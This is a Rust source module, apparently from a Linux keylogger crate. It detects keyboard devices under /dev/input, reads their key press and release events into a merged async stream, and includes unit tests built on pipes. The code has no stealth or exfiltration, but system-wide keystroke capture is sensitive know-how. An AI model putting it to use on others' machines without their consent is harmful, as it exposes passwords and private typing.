mod device;
mod event_codes;

use crate::error::KeyloggerError;
use crate::key_code::KeyCode;
use crate::KeyloggerResult;
use chrono::{DateTime, Utc};
use event_codes::{EV_KEY, EV_KEY_PRESS, EV_KEY_RELEASE, EV_KEY_REPEAT, KEYBOARD_FLAGS};
use futures::stream::{self, SelectAll};
use futures::{ready, Stream};
use std::collections::VecDeque;
use std::convert::TryFrom;
use std::fs::File;
use std::os::fd::AsRawFd;
use std::path::{Path, PathBuf};
use std::pin::Pin;
use std::task::{Context, Poll};
use tokio::io::unix::AsyncFd;

/// A keyboard input device.
///
/// `Keyboard` is a [`Stream`] of the [`KeyEvent`]s read from the device.
#[derive(Debug)]
pub struct Keyboard {
    /// The name of the device.
    name: String,
    /// The path of the input device (e.g. `/dev/input/event0`).
    device: PathBuf,
    /// The open input device file.
    async_fd: AsyncFd<File>,
    /// Events read from the device but not yet yielded.
    pending: VecDeque<KeyEvent>,
    /// Set once the device is gone (e.g. unplugged).
    disconnected: bool,
}

impl TryFrom<&Path> for Keyboard {
    type Error = KeyloggerError;

    fn try_from(device: &Path) -> Result<Self, Self::Error> {
        let file = File::open(device)?;
        let flags = device::read_event_flags(&file)?;

        if !has_keyboard_flags(flags) {
            return Err(KeyloggerError::NotAKeyboard(device.to_path_buf()));
        }

        device::set_nonblocking(&file)?;

        let name = device::read_name(&file)?;

        Ok(Keyboard {
            name,
            device: device.to_path_buf(),
            async_fd: AsyncFd::new(file)?,
            pending: VecDeque::new(),
            disconnected: false,
        })
    }
}

impl Keyboard {
    pub fn name(&self) -> &str {
        &self.name
    }

    pub fn path(&self) -> &Path {
        &self.device
    }
}

impl Stream for Keyboard {
    type Item = KeyloggerResult<KeyEvent>;

    fn poll_next(self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<Option<Self::Item>> {
        let this = self.get_mut();

        loop {
            if let Some(ev) = this.pending.pop_front() {
                return Poll::Ready(Some(Ok(ev)));
            }

            if this.disconnected {
                return Poll::Ready(None);
            }

            let mut guard = match ready!(this.async_fd.poll_read_ready(cx)) {
                Ok(guard) => guard,
                Err(e) => return Poll::Ready(Some(Err(e.into()))),
            };

            match guard.try_io(|inner| device::read_input_events(inner.as_raw_fd())) {
                Ok(Ok(events)) => this
                    .pending
                    .extend(events.iter().filter_map(|e| KeyEvent::try_from(e).ok())),
                Ok(Err(e)) if device::is_disconnected(&e) => {
                    tracing::info!(
                        name = %this.name,
                        device = %this.device.display(),
                        "keyboard disconnected"
                    );
                    // Ends this keyboard's stream, so `SelectAll` drops it
                    this.disconnected = true;
                }
                Ok(Err(e)) => return Poll::Ready(Some(Err(e.into()))),
                // Not ready after all, wait for the next readiness event
                Err(_would_block) => continue,
            }
        }
    }
}

/// Auto-detect the keyboard devices to watch.
pub fn find_keyboards() -> KeyloggerResult<Vec<Keyboard>> {
    let keyboards = device::find_char_devices()?
        .filter_map(|entry| Keyboard::try_from(entry.as_path()).ok())
        .collect::<Vec<_>>();

    for kb in &keyboards {
        tracing::debug!(name = kb.name(), device = %kb.path().display(), "found keyboard");
    }

    Ok(keyboards)
}

/// Merge the key events of every detected keyboard into a single stream.
///
/// Returns [`KeyloggerError::NoDevicesFound`] if there are no keyboards.
pub fn keyboard_events() -> KeyloggerResult<SelectAll<Keyboard>> {
    let keyboards = find_keyboards()?;

    if keyboards.is_empty() {
        return Err(KeyloggerError::NoDevicesFound);
    }

    Ok(stream::select_all(keyboards))
}

/// A key event (EV_KEY).
#[derive(Debug, Clone, PartialEq)]
pub struct KeyEvent {
    /// The timestamp of the event.
    pub ts: DateTime<Utc>,
    /// The action that triggered the event.
    pub cause: KeyEventCause,
    /// The key that triggered the event.
    pub code: KeyCode,
}

/// The reason a `KeyEvent` fired.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum KeyEventCause {
    /// The key was pressed.
    Press,
    /// The key was released.
    Release,
}

impl TryFrom<&libc::input_event> for KeyEvent {
    type Error = KeyloggerError;

    fn try_from(ev: &libc::input_event) -> Result<Self, Self::Error> {
        // Only EV_KEY is of interest
        if ev.type_ != EV_KEY as u16 {
            return Err(KeyloggerError::UnsupportedEventType(ev.type_));
        }

        let cause = match ev.value {
            EV_KEY_RELEASE => KeyEventCause::Release,
            EV_KEY_PRESS => KeyEventCause::Press,
            EV_KEY_REPEAT => {
                return Err(KeyloggerError::InvalidKeyEvent(
                    "autorepeat is not a key press".into(),
                ))
            }
            n => {
                return Err(KeyloggerError::InvalidKeyEvent(format!(
                    "invalid value for EV_KEY: {n}"
                )))
            }
        };

        let sec = i64::from(ev.time.tv_sec);
        let usec = i64::from(ev.time.tv_usec);
        let ts = u32::try_from(usec * 1000)
            .ok()
            .and_then(|nsec| DateTime::from_timestamp(sec, nsec))
            .ok_or(KeyloggerError::InvalidTimestamp(sec, usec))?;

        Ok(Self {
            ts,
            cause,
            code: KeyCode::from(ev.code),
        })
    }
}

/// Check whether the specified `flags` indicate the device is a keyboard.
fn has_keyboard_flags(flags: libc::c_ulong) -> bool {
    (flags & KEYBOARD_FLAGS) == KEYBOARD_FLAGS
}

#[cfg(test)]
mod tests {
    use super::*;
    use event_codes::{EV_MSC, EV_REP, EV_SYN};
    use futures::StreamExt;
    use std::io::{self, Write};
    use std::os::fd::FromRawFd;
    use std::time::Duration;

    fn input_event(type_: u16, code: u16, value: i32) -> libc::input_event {
        libc::input_event {
            time: libc::timeval {
                tv_sec: 1_700_000_000,
                tv_usec: 250_000,
            },
            type_,
            code,
            value,
        }
    }

    #[test]
    fn press_is_converted() {
        let ev = KeyEvent::try_from(&input_event(EV_KEY as u16, 30, EV_KEY_PRESS)).unwrap();

        assert_eq!(ev.cause, KeyEventCause::Press);
        assert_eq!(ev.code, KeyCode::A);
        assert_eq!(ev.ts.timestamp(), 1_700_000_000);
        assert_eq!(ev.ts.timestamp_subsec_micros(), 250_000);
    }

    #[test]
    fn release_is_converted() {
        let ev = KeyEvent::try_from(&input_event(EV_KEY as u16, 57, EV_KEY_RELEASE)).unwrap();

        assert_eq!(ev.cause, KeyEventCause::Release);
        assert_eq!(ev.code, KeyCode::Space);
    }

    #[test]
    fn non_key_events_are_rejected() {
        let err = KeyEvent::try_from(&input_event(EV_MSC as u16, 4, 30)).unwrap_err();

        assert!(matches!(err, KeyloggerError::UnsupportedEventType(4)));
    }

    #[test]
    fn autorepeat_is_rejected() {
        let err = KeyEvent::try_from(&input_event(EV_KEY as u16, 30, EV_KEY_REPEAT)).unwrap_err();

        assert!(matches!(err, KeyloggerError::InvalidKeyEvent(_)));
    }

    /// A keyboard reading from the read end of a pipe.
    fn pipe_keyboard() -> (Keyboard, File) {
        let mut fds = [0; 2];
        assert_eq!(unsafe { libc::pipe(fds.as_mut_ptr()) }, 0);
        let (rx, tx) = unsafe { (File::from_raw_fd(fds[0]), File::from_raw_fd(fds[1])) };
        device::set_nonblocking(&rx).unwrap();

        let kb = Keyboard {
            name: "pipe".into(),
            device: PathBuf::from("/dev/input/event99"),
            async_fd: AsyncFd::new(rx).unwrap(),
            pending: VecDeque::new(),
            disconnected: false,
        };

        (kb, tx)
    }

    fn as_bytes(ev: &libc::input_event) -> &[u8] {
        unsafe {
            std::slice::from_raw_parts(
                (ev as *const libc::input_event).cast::<u8>(),
                std::mem::size_of::<libc::input_event>(),
            )
        }
    }

    #[tokio::test]
    async fn disconnected_keyboard_ends_its_stream() {
        let (mut kb, mut tx) = pipe_keyboard();
        tx.write_all(as_bytes(&input_event(EV_KEY as u16, 30, EV_KEY_PRESS)))
            .unwrap();
        drop(tx);

        let events = tokio::time::timeout(Duration::from_secs(5), (&mut kb).collect::<Vec<_>>())
            .await
            .expect("the stream should end once the device is gone");

        assert_eq!(events.len(), 1);
        assert_eq!(events[0].as_ref().unwrap().code, KeyCode::A);
        assert!(kb.next().await.is_none());
    }

    #[tokio::test]
    async fn disconnected_keyboard_is_dropped_from_the_merged_stream() {
        let (gone, tx) = pipe_keyboard();
        let (live, mut live_tx) = pipe_keyboard();
        drop(tx);

        let mut merged = stream::select_all([gone, live]);
        live_tx
            .write_all(as_bytes(&input_event(EV_KEY as u16, 48, EV_KEY_PRESS)))
            .unwrap();

        let ev = merged.next().await.unwrap().unwrap();
        assert_eq!(ev.code, KeyCode::B);

        drop(live_tx);
        assert!(merged.next().await.is_none());
    }

    #[test]
    fn enodev_means_disconnected() {
        assert!(device::is_disconnected(&io::Error::from_raw_os_error(libc::ENODEV)));
        assert!(device::is_disconnected(&io::ErrorKind::UnexpectedEof.into()));
        assert!(!device::is_disconnected(&io::Error::from_raw_os_error(libc::EIO)));
    }

    #[test]
    fn keyboard_flags() {
        let kb = (1 << EV_SYN) | (1 << EV_KEY) | (1 << EV_MSC) | (1 << EV_REP);
        let mouse = (1 << EV_SYN) | (1 << EV_KEY) | (1 << 0x02);

        assert!(has_keyboard_flags(kb));
        assert!(!has_keyboard_flags(mouse));
    }
}
